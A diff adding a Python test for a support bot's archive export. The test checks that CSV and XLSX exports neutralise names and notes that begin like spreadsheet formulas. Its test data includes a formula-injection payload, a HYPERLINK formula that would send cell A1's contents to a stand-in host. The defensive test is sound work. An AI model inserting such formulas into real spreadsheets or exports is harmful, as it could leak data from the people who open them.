@@ -5,6 +5,8 @@ teaching review list and the after-sales desk under the archive's secrecy and re
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 from collections.abc import AsyncIterator
 from pathlib import Path
 
@@ -13,9 +15,11 @@ import pytest
 from handlers.handoff.queue import ASSIGN_LOCK
 from models.agent import Agent
 from models.case import AfterSalesCase
+from models.customer import Customer
 from models.order import Order
 from tests.fakes.bot_app import RunningBot, eventually, make_settings, running_bot
-from tests.test_archive import staff
+from tests.test_archive import person_of, staff
+from tests.workbooks import load_workbook
 
 
 @pytest.fixture
@@ -61,3 +65,33 @@ async def test_two_staff_leaving_to_each_other_at_once_leave_one_active(shop):
     active = await Agent.filter(name__in=["lv5", "lv6"], active=True).values_list("id", flat=True)
     assert len(active) == 1
     assert set(await AfterSalesCase.all().values_list("assignee_id", flat=True)) == set(active)
+
+
+# --- exports ---
+
+
+async def test_exports_write_a_name_or_note_starting_like_a_formula_as_text(bot):
+    boss = await staff(bot, "sue", "supervisor")
+    root = await staff(bot, "root", "admin")
+    buyer = await Customer.create(channel="webchat", external_id="v1", created_at=bot.runtime.clock.now())
+    person_id = await person_of(bot, boss, buyer.id)
+    name, note = '=HYPERLINK("http://x.example/?"&A1,"点我")', "+1-2@\t退款"
+    assert (await bot.client.patch(f"/api/archive/{person_id}", json={"name": name}, headers=boss)).status == 204
+    assert (await bot.client.post(f"/api/archive/{person_id}/notes", json={"text": note}, headers=boss)).status == 201
+    filed = await bot.client.post("/api/access-requests", headers=boss, json={
+        "person_id": person_id, "parts": ["contact", "notes"], "reason": "顾客要求提供资料副本", "kind": "export"})
+    approved = await bot.client.post(f"/api/access-requests/{(await filed.json())['id']}/approve", json={},
+                                     headers=root)
+    assert approved.status == 200
+
+    response = await bot.client.get(f"/api/archive/{person_id}/export?format=csv&parts=contact,notes", headers=boss)
+    rows = list(csv.reader(io.StringIO((await response.read()).decode("utf-8-sig"))))
+    assert ["contact", "1", "name", "'" + name] in rows and ["notes", "1", "text", "'" + note] in rows
+    assert not any(row[3].startswith(("=", "+", "-", "@", "\t")) for row in rows[1:])
+
+    workbook = await bot.client.get(f"/api/archive/{person_id}/export?format=xlsx&parts=contact,notes",
+                                    headers=boss)
+    sheet = load_workbook(io.BytesIO(await workbook.read())).active
+    cells = {(row[0].value, row[2].value): row[3] for row in sheet.rows}
+    assert (cells["contact", "name"].value, cells["contact", "name"].data_type) == (name, "s")
+    assert (cells["notes", "text"].value, cells["notes", "text"].data_type) == (note, "s")
